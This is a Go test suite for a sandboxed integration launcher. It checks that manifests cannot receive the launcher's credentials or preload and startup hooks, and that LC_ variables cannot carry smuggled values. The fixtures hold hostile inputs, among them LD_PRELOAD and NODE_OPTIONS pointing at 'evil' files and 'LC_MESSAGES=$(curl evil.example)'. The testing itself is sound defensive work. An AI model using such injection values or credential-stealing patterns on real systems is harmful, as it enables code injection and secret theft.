package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestRunManifestCannotChooseAnotherServicesCredentials: a VoiceOS manifest
// that declares AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN, SSH_AUTH_SOCK or
// LD_PRELOAD received the launcher's values, check said nothing, and the
// audit log never named what crossed.
func TestRunManifestCannotChooseAnotherServicesCredentials(t *testing.T) {
	e := newSandboxEnv(t)
	manifest := filepath.Join(e.dir, "voiceos.integration.json")
	os.WriteFile(manifest, []byte(`{"schemaVersion":1,"id":"com.test.sandboxed","version":"1.0.0",
	"runtime":{"kind":"local-mcp","command":"sh","args":[]},
	"auth":{"kind":"apiKey","fields":[{"key":"DECLARED_SECRET","label":"k"},{"key":"AWS_SECRET_ACCESS_KEY","label":"a"},
	{"key":"GITHUB_TOKEN","label":"g"},{"key":"SSH_AUTH_SOCK","label":"s"}]},
	"preferences":[{"name":"LD_PRELOAD","label":"l"},{"name":"NODE_OPTIONS","label":"n"}],
	"permissions":[{"kind":"network","domains":["api.allowed.example"]}]}`), 0o644)
	cmd := e.command(`for k in DECLARED_SECRET AWS_SECRET_ACCESS_KEY GITHUB_TOKEN SSH_AUTH_SOCK LD_PRELOAD NODE_OPTIONS; do eval "echo $k=\${$k:-absent}"; done`)
	cmd.Args = append(cmd.Args[:2], append([]string{"--env", "GITHUB_TOKEN"}, cmd.Args[2:]...)...)
	cmd.Env = append(cmd.Env, "GITHUB_TOKEN=gh-value", "SSH_AUTH_SOCK=/tmp/agent.sock", "LD_PRELOAD=/nonexistent/evil.so", "NODE_OPTIONS=--require=/evil.js")
	out, errs, code := runCmd(t, cmd)
	want := "DECLARED_SECRET=declared-value\nAWS_SECRET_ACCESS_KEY=absent\nGITHUB_TOKEN=gh-value\nSSH_AUTH_SOCK=absent\nLD_PRELOAD=absent\nNODE_OPTIONS=absent\n"
	if code != 0 || out != want {
		t.Fatalf("exit %d\nstdout %q\nwant   %q\nstderr %s", code, out, want, errs)
	}
	for _, k := range []string{"AWS_SECRET_ACCESS_KEY", "SSH_AUTH_SOCK", "LD_PRELOAD", "NODE_OPTIONS"} {
		if !strings.Contains(errs, "declares "+k+":") {
			t.Errorf("no warning for %s:\n%s", k, errs)
		}
	}
	log := e.auditLog()
	if !strings.Contains(log, `"action":"env","msg":"crossed: DECLARED_SECRET,GITHUB_TOKEN,`) || strings.Contains(log, "declared-value") || strings.Contains(log, "gh-value") {
		t.Fatalf("audit log:\n%s", log)
	}
	checkOut, _, _ := runCLI(t, "check", manifest)
	for _, k := range []string{"AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "SSH_AUTH_SOCK", "LD_PRELOAD", "NODE_OPTIONS"} {
		if !strings.Contains(checkOut, "warning: declares the variable "+k+",") {
			t.Errorf("check does not warn about %s:\n%s", k, checkOut)
		}
	}
}

// TestRunDeclaredSessionTokensAndStartupHooksStayOutside: a manifest that
// declares a password manager's session, a .NET startup hook or JVM
// options for a launcher script gets none of the launcher's values; the
// start-up notice names each, and the manifest's own key still crosses.
func TestRunDeclaredSessionTokensAndStartupHooksStayOutside(t *testing.T) {
	e := newSandboxEnv(t)
	held := []string{"BW_SESSION", "DOTNET_STARTUP_HOOKS", "JAVA_TOOL_OPTIONS", "MAVEN_OPTS"}
	os.WriteFile(filepath.Join(e.dir, "voiceos.integration.json"), []byte(`{"schemaVersion":1,"id":"com.test.sandboxed","version":"1.0.0",
	"runtime":{"kind":"local-mcp","command":"sh","args":[]},
	"auth":{"kind":"apiKey","fields":[{"key":"DECLARED_SECRET","label":"k"},{"key":"BW_SESSION","label":"b"}]},
	"preferences":[{"name":"DOTNET_STARTUP_HOOKS","label":"d"},{"name":"JAVA_TOOL_OPTIONS","label":"j"},{"name":"MAVEN_OPTS","label":"m"}],
	"permissions":[{"kind":"network","domains":["api.allowed.example"]}]}`), 0o644)
	cmd := e.command(`for k in DECLARED_SECRET ` + strings.Join(held, " ") + `; do eval "echo $k=\${$k:-absent}"; done`)
	cmd.Env = append(cmd.Env, "BW_SESSION=vault-session", "DOTNET_STARTUP_HOOKS=/tmp/hook.dll",
		"JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar", "MAVEN_OPTS=-javaagent:/tmp/a.jar")
	out, errs, code := runCmd(t, cmd)
	want := "DECLARED_SECRET=declared-value\n"
	for _, k := range held {
		want += k + "=absent\n"
	}
	if code != 0 || out != want {
		t.Fatalf("exit %d\nstdout %q\nwant   %q\nstderr %s", code, out, want, errs)
	}
	for _, k := range held {
		if !strings.Contains(errs, "the manifest declares "+k+":") {
			t.Errorf("the start-up notice does not name %s:\n%s", k, errs)
		}
	}
}

// TestRunUndeclaredLCVariablesDoNotCarryValuesIn: every launcher variable
// whose name began with LC_ crossed, declared or not, and sshd's stock
// "AcceptEnv LANG LC_*" makes LC_ the usual way to carry a value into a
// session. Only the standard locale categories cross, and only with a
// locale-shaped value.
func TestRunUndeclaredLCVariablesDoNotCarryValuesIn(t *testing.T) {
	e := newSandboxEnv(t)
	out, errs, code := e.run(`env | grep -E '^(LC_|LANG=)' | sort`,
		"LC_API_TOKEN=s3cr3t-not-declared", "LC_TERMINAL_SECRET=other", "LC_ALL=C.UTF-8", "LC_TIME=en_GB.UTF-8",
		"LC_MESSAGES=$(curl evil.example)", "LC_CTYPE=C.UTF-8 secret words", "LANG=de_DE.UTF-8@euro", "LC_NUMERIC=POSIX",
		"LC_IDENTIFICATION="+strings.Repeat("a", 65))
	want := "LANG=de_DE.UTF-8@euro\nLC_ALL=C.UTF-8\nLC_NUMERIC=POSIX\nLC_TIME=en_GB.UTF-8\n"
	if code != 0 || out != want {
		t.Fatalf("exit %d\nstdout %q\nwant   %q\nstderr %s", code, out, want, errs)
	}
	if log := e.auditLog(); strings.Contains(log, "LC_API_TOKEN") || strings.Contains(log, "LC_MESSAGES") {
		t.Fatalf("the audit log says an undeclared LC_ variable crossed:\n%s", log)
	}
}
